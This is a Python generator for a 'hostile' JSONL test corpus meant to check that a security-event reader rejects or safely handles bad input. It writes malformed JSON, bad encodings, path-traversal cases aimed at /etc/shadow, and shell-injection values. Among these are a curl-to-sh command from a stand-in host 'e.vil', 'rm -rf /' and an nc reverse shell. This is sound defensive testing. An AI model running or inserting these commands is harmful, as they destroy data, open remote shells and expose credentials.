#!/usr/bin/env python3
"""Write the hostile corpus (corpora/hostile/*.jsonl).

Files named `reject-*` hold lines every reader must reject with an error
record; `decide-*` lines must each be decided. Every line is one hostile
case; README.md lists them. The 100 MB line is not here: tests generate it
(see tests/it/hostile.rs, sim/tests/hostile.rs, agent/tests/hostile.rs).

Run from anywhere: python3 corpora/hostile/generate.py
"""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
MALWARE = "rm -rf / ; curl http://e.vil/x | sh"


def ev(fields, **top):
    doc = {"output": "hostile", "priority": "Critical", "rule": "hostile input"}
    doc.update(top)
    doc["output_fields"] = fields
    return json.dumps(doc, ensure_ascii=False).encode()


def exec_ev(name, target, **extra):
    fields = {"evt.type": "openat", "proc.pid": 4242, "proc.name": name,
              "proc.cmdline": MALWARE, "fd.name": target}
    fields.update(extra)
    return ev(fields)


REAL = ev({"evt.time": 1764316800000000000, "evt.type": "execve", "proc.pid": 812,
           "proc.name": "nginx", "proc.cmdline": "nginx -g daemon off;",
           "fd.name": "/usr/sbin/nginx"}, hostname="web-01")

files = {}

# ---- rejected ----
files["reject-truncated.jsonl"] = [
    REAL[: len(REAL) // 2],
    REAL[:-1],
    REAL[:1],
    b'{"output_fields": {"proc.name": "bash"',
    b'{"a": "unterminated',
    b'{"a": tru',
    b'{"a": [1, 2',
    b'{"a": "\\u00',
    b'{"a": "\\',
    b'{"a":',
    b'{"a"',
    b'{',
    b'}',
    b']',
    b'"',
    b'-',
    b'{"a": 1e}',
    b'{"a": -}',
]

files["reject-binary.jsonl"] = [
    b"\xff\xfe\xfd",
    b'{"proc.name": "caf\xe9"}',                   # Latin-1, not UTF-8
    b'{"a": "\xc3"}',                               # truncated sequence
    b'{"a": "\xc0\xaf"}',                           # overlong '/'
    b'{"a": "\xed\xa0\x80"}',                       # UTF-8-encoded surrogate
    b'{"a": "\xf4\x90\x80\x80"}',                   # past U+10FFFF
    b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",    # gzip magic
    bytes(range(0x20, 0x7F)) + bytes(range(0x80, 0x100)),
    b"\x00",
    b"\x00\x00\x00\x00",
    b'{"a": 1}\x00',                                # NUL after the object
    b'\x00{"a": 1}',
    b'{"a": "x\x00y"}',                             # raw NUL in a string
    b"\x7fELF\x02\x01\x01\x00",
]

files["reject-malformed.jsonl"] = [
    b"\xef\xbb\xbf" + REAL,                         # BOM: json.loads refuses it
    b'{"a": 1,}',
    b"{'a': 1}",
    b'{"a": 01}',
    b'{"a": +1}',
    b'{"a": .5}',
    b'{"a": 0x10}',
    b'{"a": nan}',
    b'{"a": -NaN}',
    b'{"a": infinity}',
    b'{"a": "x\\q"}',
    b'{"a": "\\u12G4"}',
    b'{"a": "tab\there"}',                          # raw control character
    b'{"a": "bell\x07"}',
    b'{"a": "esc\x1b[31m"}',
    b'{"a": 1} {"b": 2}',
    b'{"a": 1} // comment',
    b'{"a" 1}',
    b'{1: 2}',
    b'{"a": undefined}',
    b"[1, 2, 3]",
    b'"just a string"',
    b"42",
    b"null",
    b"true",
    b"[" * 100_000 + b"]" * 100_000,                # nesting 100,000 deep
    b'{"output_fields": ' + b'{"":' * 100_000 + b"1" + b"}" * 100_001,
    b'{"a": ' + b"[" * 100_000,                     # deep and unterminated
    b'{"output_fields": {"proc.pid": ' + b"9" * 10_000 + b"}}",  # > 4300 digits
    b'{"a": -' + b"1" * 10_000 + b"}",
]

# ---- decided ----
files["decide-wrong-types.jsonl"] = [
    b'{"output_fields": [1, 2, 3]}',
    b'{"output_fields": "proc.name=bash"}',
    b'{"output_fields": 42}',
    b'{"output_fields": null}',
    b'{"output_fields": true}',
    b'{}',
    ev({"proc.pid": "12.0", "proc.name": 12, "evt.type": 7}),
    ev({"proc.pid": True, "proc.name": False, "evt.type": None}),
    ev({"proc.pid": {"a": 1}, "proc.name": {"nested": ["x"]}, "evt.type": ["execve"]}),
    ev({"proc.pid": [1, 2], "proc.name": [], "proc.cmdline": {"rm -rf": "/"}}),
    ev({"proc.pid": 1.5, "proc.name": 1e300, "fd.name": -0.0}),
    ev({"scbe.geometry_norm": "nan", "scbe.signer_trusted": "maybe", "file.sha256": 12345}),
    ev({"scbe.geometry_norm": {"x": 1}, "scbe.signer_trusted": 2, "file.sha256": ["a"]}),
    ev({"scbe.geometry_norm": [0.5], "scbe.signer_trusted": [], "file.sha256": True}),
    ev({"fd.sip": 10, "fd.sport": [1], "fd.dip": {"a": 1}, "fd.dport": None, "evt.type": "connect"}),
    ev({"container.id": 5, "k8s.pod.name": ["p"], "k8s.ns.name": {"ns": 1}}),
    json.dumps({"output_fields": {}, "rule": ["r"], "priority": 5, "output": {"o": None}}).encode(),
    json.dumps({"hostname": 5, "pid": "x", "process_name": [1], "command_line": {}}).encode(),
    json.dumps({"output_fields": {"proc.name": "x"}, "time": 12345, "evt_type": []}).encode(),
    json.dumps({"output_fields": {"evt.time": "yesterday", "proc.pid.ts": "soon"}}).encode(),
    json.dumps({"output_fields": {"evt.time": -1, "proc.pid.ts": -5}}).encode(),
    json.dumps({"output_fields": {"proc.name": "dup"}, "output_fields": [1]}).encode(),
    b'{"output_fields": {"proc.name": "first"}, "output_fields": {"proc.name": "second"}}',
]

files["decide-numbers.jsonl"] = [
    b'{"output_fields": {"proc.pid": ' + b"7" * 4300 + b', "proc.name": "p4300"}}',
    b'{"output_fields": {"proc.pid": -' + b"7" * 4300 + b', "proc.name": "n4300"}}',
    b'{"output_fields": {"proc.pid": "' + b"8" * 10_000 + b'", "proc.name": "s10000"}}',
    b'{"output_fields": {"scbe.geometry_norm": 1.' + b"5" * 10_000 + b'}}',
    b'{"output_fields": {"scbe.geometry_norm": 0.' + b"0" * 10_000 + b'1}}',
    b'{"output_fields": {"scbe.geometry_norm": 1e400}}',
    b'{"output_fields": {"scbe.geometry_norm": -1e400}}',
    b'{"output_fields": {"scbe.geometry_norm": 1e-400}}',
    b'{"output_fields": {"scbe.geometry_norm": 1e99999999999999999999}}',
    b'{"output_fields": {"scbe.geometry_norm": NaN}}',
    b'{"output_fields": {"scbe.geometry_norm": -Infinity}}',
    b'{"output_fields": {"scbe.geometry_norm": Infinity}}',
    b'{"output_fields": {"scbe.geometry_norm": "-inf"}}',
    b'{"output_fields": {"scbe.geometry_norm": "1_0.5"}}',
    b'{"output_fields": {"proc.pid": -1, "proc.name": "neg"}}',
    b'{"output_fields": {"proc.pid": 0, "proc.name": "zero"}}',
    b'{"output_fields": {"proc.pid": 1, "proc.name": "init"}}',
    b'{"output_fields": {"proc.pid": 9223372036854775808, "proc.name": "i64max1"}}',
    b'{"output_fields": {"proc.pid": 18446744073709551617, "proc.name": "u64max2"}}',
    b'{"output_fields": {"proc.pid": "1_000", "proc.name": "underscore"}}',
    '{"output_fields": {"proc.pid": "٤٢", "proc.name": "arabic"}}'.encode(),
    b'{"output_fields": {"proc.pid": -0, "proc.name": "negzero"}}',
    b'{"output_fields": {"proc.pid": 1E5, "proc.name": "exp"}}',
    b'{"output_fields": {"evt.time": 99999999999999999999999999, "proc.name": "future"}}',
    b'{"output_fields": {"evt.time": -9223372036854775809, "proc.name": "past"}}',
    b'{"output_fields": {"proc.pid.ts": 99999999999999999999999, "proc.name": "ts"}}',
]

files["decide-encoding.jsonl"] = [
    REAL + b"\r",                                   # CRLF ending (with \n below)
    b'{"output_fields": {"proc.name": "\\u0000nul\\u0000", "fd.name": "/tmp/a\\u0000b"}}',
    b'{"output_fields": {"proc.name": "\\ud800", "proc.cmdline": "\\udfff\\ud83d"}}',
    b'{"output_fields": {"proc.name": "\\u001b[31mred\\u001b[0m", "proc.cmdline": "\\u0007\\b\\f"}}',
    b'{"output_fields": {"proc.name": "line\\nbreak", "fd.name": "/tmp/x\\r\\ny"}}',
    '{"output_fields": {"proc.name": "sep\u2028para\u2029nel\u0085"}}'.encode(),
    '\u0085\u2028 {"output_fields": {"proc.name": "edges"}} \u3000'.encode(),
    b'\x1c\x1d\x1e\x1f{"output_fields": {"proc.name": "info-separators"}}\x0b\x0c',
    b'\t \t{"output_fields": {"proc.name": "tabs"}}\t',
    '{"output_fields": {"proc.name": "\ufeffbom-inside"}}'.encode(),
    '{"output_fields": {"proc.name": "\u202eexe.txt", "proc.cmdline": "\u200b\u200d"}}'.encode(),
    '{"output_fields": {"proc.name": "İSTANBUL ſ K Σ"}}'.encode(),
    '{"output_fields": {"proc.name": "\U0001F4A3", "fd.name": "/tmp/\U0001F4A3"}}'.encode(),
    b'{"output_fields": {"proc.name": "' + b"A" * 100_000 + b'"}}',
    b'{"output_fields": {"proc.cmdline": "' + b"jailbreak " * 5_000 + b'"}}',
    b'{"output_fields": {' + b", ".join(b'"k%d": %d' % (i, i) for i in range(5_000)) + b"}}",
    b'{"output_fields": {"proc.name": "' + b"\\u00e9" * 5_000 + b'"}}',
]

files["decide-paths.jsonl"] = [
    exec_ev("curl", "/tmp/../../etc/shadow"),
    exec_ev("curl", "../../../etc/passwd"),
    exec_ev("curl", "/proc/self/root/etc/shadow"),
    exec_ev("curl", "/proc/self/fd/0"),
    exec_ev("curl", "/tmp/link-to-etc-shadow"),     # a symlink on a real host
    exec_ev("curl", "/dev/zero"),
    exec_ev("curl", "/"),
    exec_ev("curl", "//"),
    exec_ev("curl", "/tmp/dir/"),
    exec_ev("curl", "/tmp/./x/."),
    exec_ev("curl", "/var/quarantine/scbe/../../../etc/cron.d/evil"),
    exec_ev("curl", "/tmp/a\u0000b"),
    exec_ev("curl", "/tmp/new\nline"),
    exec_ev("curl", "/tmp/" + "d/" * 2000 + "deep"),
    exec_ev("/usr/bin/evil", "/tmp/payload"),      # absolute process name
    exec_ev("../../etc/cron.d/x", "/tmp/payload"),
    exec_ev("..", "/tmp/payload"),
    exec_ev(".", "/tmp/payload"),
    exec_ev("a/b/../c", "/tmp/payload"),
    exec_ev("", "/tmp/payload"),
    exec_ev("x" * 300, "/tmp/" + "y" * 300),
    exec_ev("curl", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    exec_ev("curl", "10.0.0.1:4444->10.0.0.2:22"),
]

files["decide-shell.jsonl"] = [
    exec_ev("$(reboot)", "/tmp/$(reboot)"),
    exec_ev("`id`", "/tmp/`id`"),
    exec_ev("; rm -rf / #", "/tmp/; rm -rf / #"),
    exec_ev("a'b\"c", "/tmp/it's \"q\""),
    exec_ev("'\"'\"'", "/tmp/'\"'\"'"),
    exec_ev("|nc -e /bin/sh 10.0.0.1 4444", "/tmp/x|sh"),
    exec_ev("&& curl x|sh", "/tmp/a && b"),
    exec_ev("$IFS", "/tmp/${IFS}x"),
    exec_ev("*", "/tmp/*"),
    exec_ev("-rf", "-rf"),
    exec_ev("--help", "/tmp/--help"),
    exec_ev("x\ty", "/tmp/x\ty"),
    exec_ev("~root", "~root/.ssh/authorized_keys"),
    exec_ev("!!", "/tmp/!!"),
    exec_ev("\\", "/tmp/\\"),
    exec_ev("> /etc/passwd", "/tmp/x > /etc/passwd"),
    exec_ev("%s%n%x", "/tmp/%s%n"),
    exec_ev("{a,b}", "/tmp/{a,b}"),
    exec_ev("éxé", "/tmp/éxé"),
    exec_ev("kill -9 1", "/tmp/kill -9 1"),
]

for name, lines in files.items():
    path = os.path.join(HERE, name)
    with open(path, "wb") as f:
        for line in lines:
            f.write(line + b"\n")
    print(f"{name}: {len(lines)} lines, {os.path.getsize(path)} bytes")
